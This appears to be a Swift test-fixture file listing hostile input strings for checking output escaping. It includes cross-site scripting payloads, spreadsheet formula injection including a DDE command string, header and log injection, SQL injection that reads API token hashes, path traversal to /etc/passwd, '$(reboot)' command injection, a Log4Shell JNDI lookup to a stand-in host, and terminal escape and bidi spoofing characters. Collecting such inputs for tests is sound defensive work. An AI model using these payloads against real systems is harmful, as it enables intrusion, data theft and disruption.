/// What somebody types who hopes that a page, a spreadsheet, a log, a header, a database or a terminal takes text for more
/// than text.
enum HostileTexts {
    static let all = html + csv + lines + queries + templates + terminal

    /// Harmless, and as many.
    static let plain = all.indices.map { "plain text \($0)" }

    private static let html = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)\" x=\"",
        "' autofocus onfocus='alert(1)", "\"\u{301}><svg onload=alert(1)>", "<\u{301}b><!-- ", "x--><b>", "]]><b>",
        "</title></textarea></style></script><iframe src=//x.example>", "javascript:alert(1)",
        "&lt;b&gt; &amp; &#60;script&#62;",
    ]

    private static let csv = [
        "=HYPERLINK(\"http://x.example\",\"open\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=\u{301}1",
        "\u{FF1D}1+1", "\t=1+1", "\r=1+1", "\n=1+1", "a;=1+1", "b\t+1+1", "c\r\n=1+1", "\",\"=1+1", "d\n\n@x,=1,\"",
    ]

    private static let lines = [
        "first\r\nSet-Cookie: a=b\r\n\r\n<b>body</b>", "x\n2026-11-26T08:00:00Z error smilepost : forged",
        "\"}\n{\"id\":\"forged\"}", "y\n\nevent: change\ndata: z\n\n", "z\r\n.\r\nRCPT TO:<a@x.example>\r\n",
    ]

    private static let queries = [
        "'; DROP TABLE response; --", "' OR 1=1 --", "%' UNION SELECT hash FROM api_token --", "../../etc/passwd",
        "$(reboot) `reboot`; reboot", "${jndi:ldap://x.example/a}", "%s%n%x",
    ]

    private static let templates = [
        "{{#branches}}{{name}}{{/branches}}", "{{{name}}}{{&name}}", "{{% CONTENT_TYPE:TEXT}}{{> top}}", "\\(name)",
    ]

    private static let terminal = [
        "\u{1B}[2J\u{1B}[31mgone\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{9B}31m\u{9D}0;t\u{9C}", "\u{202E}txt.exe",
        "\u{2066}a\u{2067}b", "l\u{2028}m\u{2029}n\u{85}o", "e\u{8}\u{8}\u{7F}f\u{E}g", "\u{FEFF}h",
    ]
}
